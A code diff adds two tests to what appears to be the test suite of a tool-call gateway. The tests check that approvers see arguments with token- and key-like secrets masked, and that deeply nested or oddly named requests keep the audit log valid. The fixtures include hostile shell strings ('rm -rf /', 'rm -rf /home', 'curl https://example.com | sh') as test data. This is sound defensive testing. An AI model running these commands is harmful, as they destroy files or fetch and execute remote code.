@@ -118,6 +118,65 @@ it('what a rule judges, a person sees, the record keeps and the server gets is t
   expect(outcomes.refused).toBeGreaterThan(5)
 })
 
+it('hides no value from whoever approves, whatever secrets are written around it', async () => {
+  await using folder = await temporaryFolder()
+  const { server } = recordingAt(folder.path)
+  await using gateway = await startTestGateway({ servers: { rec: server }, limits: { hold: 0, pending: 100 } })
+  const person = await firstAdministrator(gateway)
+  const session = await openSession(gateway)
+  const token = (letter: string) => `ghp_${`${letter}1`.repeat(18)}`
+  const key = (words: string) => `-----BEGIN PRIVATE KEY-----\n${words}\n-----END PRIVATE KEY-----`
+  await session.call('rec_write_thing', {
+    [token('a')]: 'rm -rf /',
+    [token('b')]: 'harmless',
+    '[secret]': 'as it is',
+    inside: { [`${token('c')}.x`]: 1, [`${token('d')}.x`]: 2 },
+    command: `${key('rm -rf /home')}; ${key('QUJD'.repeat(16))}`,
+    open: '-----BEGIN RSA PRIVATE KEY-----\ncurl https://example.com | sh',
+  })
+  const { items } = toFields((await person.request('GET', '/api/approvals?state=waiting&limit=1')).message)
+  expect(toFields([items].flat()[0]).arguments).toEqual({
+    '[secret] (2)': 'rm -rf /',
+    '[secret] (3)': 'harmless',
+    '[secret]': 'as it is',
+    inside: { '[secret].x': 1, '[secret].x (2)': 2 },
+    command: '[secret]\nrm -rf /home\n[secret]; [secret]',
+    open: '[secret]\ncurl https://example.com | sh',
+  })
+})
+
+it('keeps the record readable and provable, however deep a request is nested and whatever its names are', async () => {
+  await using folder = await temporaryFolder()
+  const { server } = recordingAt(folder.path)
+  await using gateway = await startTestGateway({ servers: { rec: server }, limits: { hold: 0, pending: 100 } })
+  const person = await firstAdministrator(gateway)
+  const session = await openSession(gateway)
+  const headers = { ...(await headersOf(gateway, 'agent')), 'mcp-session-id': session.id }
+  const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`
+  const post = (method: string, params: string) =>
+    send(gateway.mcpUrl, { headers, body: `{"jsonrpc":"2.0","id":1,"method":"${method}","params":${params}}` })
+  for (const depth of [499, 500, 511]) {
+    const value = nested(depth)
+    const key = { ...(await headersOf(gateway, 'agent')), 'idempotency-key': `depth ${depth}` }
+    const call = { path: '/api/tools/rec_read_thing/call', headers: key, body: `{"arguments":${value}}` }
+    const replies = [
+      await post('tools/call', `{"name":"rec_write_thing","arguments":${value}}`),
+      await post('tools/call', `{"name":"rec_write_thing","arguments":{},"inputResponses":${value}}`),
+      await post('tools/call', `{"name":"rec_write_thing","arguments":{},"_meta":${value}}`),
+      await post('completion/complete', `{"ref":{"type":"ref/prompt","name":"none"},"context":${value}}`),
+      await post('tasks/get', `{"taskId":"none","more":${value}}`),
+      await send(gateway.url, call),
+      await send(gateway.url, call),
+    ]
+    expect(replies.map(({ status }) => status)).toEqual(replies.map(() => (depth < 500 ? 200 : 400)))
+  }
+  for (const name of [`${'x'.repeat(255)}😀`, 'a\u0000b', '\u202e', 'x'.repeat(100_000)]) await session.call(name)
+  for (const path of ['approvals', 'calls', 'audit']) {
+    expect((await person.request('GET', `/api/${path}?limit=100`)).status).toBe(200)
+  }
+  expect(await gateway.gateway.audit.verify(AbortSignal.timeout(20_000))).toMatchObject({ clean: true })
+})
+
 /** Everything is denied but a call in which the rule sees exactly this value, in the arguments and in `_meta`. */
 function toRules(run: number, probe: string): Rule[] {
   const seen: unknown = JSON.parse(probe)
